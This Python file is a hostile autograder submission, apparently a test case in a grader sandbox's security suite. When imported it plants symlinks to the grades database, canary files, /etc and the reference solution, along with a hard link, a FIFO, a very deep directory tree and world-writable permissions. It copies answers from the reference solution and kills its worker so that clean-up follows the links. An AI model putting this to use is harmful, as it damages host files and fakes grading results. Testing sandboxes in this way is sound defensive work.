"""Damage: plant links and traps in the working folder for the grader's clean-up to follow.

Attack: at import the module fills its working folder with symbolic links to
the store, to the host's canary files and folder, to the reference solution
and to ``/etc``, a hard link attempt to a canary file, a FIFO, a
world-writable copy of itself, and a 2,000-level deep directory tree; it then
tries to import the reference through the link. Its first call ends the
worker with ``os._exit`` so that the grader restarts it (and prepares the
working folder again: ownership and permissions) and later removes the folder.
A clean-up or ``chown``/``chmod`` that followed the links would change or
delete the host files they point to; one that choked on the deep tree would
fail the grader.

Success would look like: a canary file or the store changed, re-owned,
re-moded or deleted; the grader failing (internal_error); or any points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can write the targets itself
"""

import os
import sys

import numpy as np

W = 12345.678
COURSE = "@@COURSE@@"
CANARY_DIR = "@@CANARY_DIR@@"
made = []
for name, target in (("store.db", f"{COURSE}/grades.db"), ("canary.txt", f"{CANARY_DIR}/canary.txt"),
                     ("canary_dir", CANARY_DIR), ("etc", "/etc"), ("ref.py", f"{COURSE}/reference/hw1/hw1.py"),
                     ("reference", f"{COURSE}/reference/hw1")):
    try:
        os.symlink(target, name)
        made.append(name)
    except OSError:
        pass
try:
    os.link(f"{CANARY_DIR}/canary.txt", "hardlink.txt")
    made.append("hardlink")
except OSError:
    pass
try:
    os.mkfifo("trap.fifo")
    made.append("fifo")
except OSError:
    pass
path = "deep"
try:
    for _ in range(2000):
        os.mkdir(path)
        path = os.path.join(path, "d")
    made.append("deep tree")
except OSError:
    pass
try:
    os.chmod(".", 0o777)
except OSError:
    pass
sys.path.insert(0, os.getcwd())
try:
    import ref  # the reference, through the link

    made.append("imported the reference")
except Exception:  # noqa: BLE001
    ref = None
print("planted:", made)


def _w(shape):
    return np.full(shape, W)


_calls = [0]


def sigmoid(z):
    _calls[0] += 1
    if _calls[0] == 1:
        os._exit(0)  # make the grader restart the worker over the planted links
    return ref.sigmoid(z) if ref else _w(np.shape(z))


def sigmoid_grad(z):
    return ref.sigmoid_grad(z) if ref else _w(np.shape(z))


def tanh(z):
    return ref.tanh(z) if ref else _w(np.shape(z))


def tanh_grad(z):
    return ref.tanh_grad(z) if ref else _w(np.shape(z))


def relu(z):
    return ref.relu(z) if ref else _w(np.shape(z))


def relu_grad(z):
    return ref.relu_grad(z) if ref else _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return ref.leaky_relu(z, alpha) if ref else _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return ref.leaky_relu_grad(z, alpha) if ref else _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return ref.neuron(x, w, b, activation) if ref else _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return ref.affine_forward(x, w, b) if ref else (_w((np.shape(x)[0], np.shape(w)[1])), None)


def mlp_forward(x, params, activation="relu"):
    return ref.mlp_forward(x, params, activation) if ref else _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
